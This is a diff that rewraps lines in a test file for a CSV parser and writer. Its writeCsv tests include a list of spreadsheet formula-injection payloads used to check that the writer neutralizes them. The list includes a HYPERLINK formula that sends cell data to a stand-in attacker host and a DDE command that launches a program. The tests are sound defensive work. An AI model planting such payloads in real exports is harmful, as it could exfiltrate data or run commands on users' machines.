@@ -17,7 +17,11 @@ describe('readCsv', () => {
 
   it('reports ragged rows with the line where the record starts and keeps the others', () => {
     const read = readCsv('a,b\n"multi\nline",2\n1,2,3\n4\n5,6');
-    expect(read.records.map((r) => r.fields)).toEqual([['a', 'b'], ['multi\nline', '2'], ['5', '6']]);
+    expect(read.records.map((r) => r.fields)).toEqual([
+      ['a', 'b'],
+      ['multi\nline', '2'],
+      ['5', '6'],
+    ]);
     expect(read.problems).toEqual([
       { line: 4, message: 'expected 2 fields, found 3' },
       { line: 5, message: 'expected 2 fields, found 1' },
@@ -38,7 +42,9 @@ describe('readCsv', () => {
   });
 
   it('refuses an unclosed quote and text after a closing quote, per record', () => {
-    expect(readCsv('a,b\n"x"y,1\n2,3').problems).toEqual([{ line: 2, message: 'unexpected text after a closing quote' }]);
+    expect(readCsv('a,b\n"x"y,1\n2,3').problems).toEqual([
+      { line: 2, message: 'unexpected text after a closing quote' },
+    ]);
     const open = readCsv('a,b\n1,2\n"never closed,3\n4,5');
     expect(open.records).toHaveLength(2);
     expect(open.problems).toEqual([{ line: 3, message: 'a quoted field is never closed' }]);
@@ -60,7 +66,15 @@ describe('readCsv', () => {
 });
 
 describe('writeCsv', () => {
-  const INJECTIONS = ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1', '\n=1+1'];
+  const INJECTIONS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    '@SUM(1+1)',
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+  ];
 
   it.each(INJECTIONS)('prefixes the formula trigger in %j with a quote', (cell) => {
     const out = writeCsv([[cell, -12.5]]);
@@ -71,12 +85,15 @@ describe('writeCsv', () => {
   });
 
   it('quotes only when needed and ends lines with CRLF', () => {
-    expect(writeCsv([['a', 'b,c', 'd"e', 'f\ng', 1, true, null, undefined, Number.NaN]])).toBe('a,"b,c","d""e","f\ng",1,true,,,\r\n');
+    expect(writeCsv([['a', 'b,c', 'd"e', 'f\ng', 1, true, null, undefined, Number.NaN]])).toBe(
+      'a,"b,c","d""e","f\ng",1,true,,,\r\n',
+    );
     expect(writeCsv([['a;b', 'c']], ';')).toBe('"a;b";c\r\n');
   });
 
   it('makes the quote prefix reversible, even for text that already starts with quotes', () => {
-    for (const text of ["'=x", "''@y", "'plain", 'plain', "'", '']) expect(restoreFormula(neutralizeFormula(text))).toBe(text);
+    for (const text of ["'=x", "''@y", "'plain", 'plain', "'", ''])
+      expect(restoreFormula(neutralizeFormula(text))).toBe(text);
     expect(neutralizeFormula("'=x")).toBe("''=x");
     expect(neutralizeFormula("'plain")).toBe("'plain");
   });
@@ -93,13 +110,18 @@ describe('writeCsv', () => {
   it('round-trips any table of text through write and read (with the formula rule undone)', () => {
     const cell = fc.string({ unit: 'binary', maxLength: 12 });
     fc.assert(
-      fc.property(fc.integer({ min: 1, max: 5 }).chain((w) => fc.array(fc.array(cell, { minLength: w, maxLength: w }), { minLength: 1, maxLength: 6 })), (rows) => {
-        // A record of one empty field is a blank line, which the reader skips by design.
-        fc.pre(rows.every((r) => r.length > 1 || r[0] !== ''));
-        const read = readCsv(writeCsv(rows), { delimiter: ',' });
-        expect(read.problems).toEqual([]);
-        expect(read.records.map((r) => r.fields.map(restoreFormula))).toEqual(rows);
-      }),
+      fc.property(
+        fc
+          .integer({ min: 1, max: 5 })
+          .chain((w) => fc.array(fc.array(cell, { minLength: w, maxLength: w }), { minLength: 1, maxLength: 6 })),
+        (rows) => {
+          // A record of one empty field is a blank line, which the reader skips by design.
+          fc.pre(rows.every((r) => r.length > 1 || r[0] !== ''));
+          const read = readCsv(writeCsv(rows), { delimiter: ',' });
+          expect(read.problems).toEqual([]);
+          expect(read.records.map((r) => r.fields.map(restoreFormula))).toEqual(rows);
+        },
+      ),
       { numRuns: 300 },
     );
   });
